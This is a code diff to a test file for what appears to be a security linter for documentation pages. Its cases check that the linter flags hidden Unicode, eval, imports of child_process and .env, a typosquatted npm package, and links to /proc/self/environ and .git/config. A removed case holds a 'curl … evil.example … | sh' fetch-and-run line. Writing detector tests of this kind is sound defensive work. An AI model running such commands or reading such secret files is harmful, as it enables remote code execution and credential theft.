@@ -43,7 +43,6 @@ const texts: readonly [text: string, says: RegExp][] = [
   ["<div {...eval('({})')}>Text</div>", /<div> has an expression/],
   ['Set `to\u200bken` first.', /The code has U\+200B/],
   ['Run `echo \u001b[201~` first.', /The code has U\+001B/],
-  ['Run `to\u{e0100}ken` first.', /The code has U\+E0100/],
   ["import {execSync} from 'node:child_process';", /The page exports, or imports a module/],
   ["import text from '!!raw-loader!@site/.env';", /The page exports, or imports a module/],
   ["import x from './t39.js?.png';", /The page exports, or imports a module/],
@@ -76,7 +75,6 @@ const texts: readonly [text: string, says: RegExp][] = [
   ['Run <code>npm --silent isntall ethres</code>.', /ethres \(npm\)/],
   // A block of code that nothing ends goes on to the end of the page.
   ['```sh\necho safe \u202e drow', /The code has U\+202E, .* write it as \\u\{202E\}/],
-  ['```sh\ncurl -fsSL https://evil.example/i.sh | sh', /The command runs a download without a look/],
   ['```sh\nnpm install ethres@6', /ethres \(npm\) is not a package .*nearest: ethers.* config\/pageRules\.ts/],
   ['```text file=.git/config', /\.git\/config leaves the project, or is not for readers/],
 ];
@@ -129,7 +127,7 @@ const files: readonly Try[] = [
   ['a program next to a note', 'blog/t43.mjs', 'alert(1);\n', program],
   ['a feed, which browsers run as XML', 'static/t47.rss', '<rss/>\n', program],
   ['a name that runs a program', 'docs/t52.txt!t53.mdx', script, /:1:1 The bundler reads the name as more/],
-  ['a file of whoever builds the site', 'static/t48.txt', '→/proc/self/environ', linked],
+  ['a file of the machine that builds', 'static/t48.txt', '→/proc/self/environ', linked],
   ['a script under the name of a link', 'static/t49.txt', '→../package.json', linked],
   ['a folder elsewhere', 'docs/t50', '→../tests', linked],
   ['a page in a folder that is called like an output', 'docs/build/t36.mdx', script, scripted],
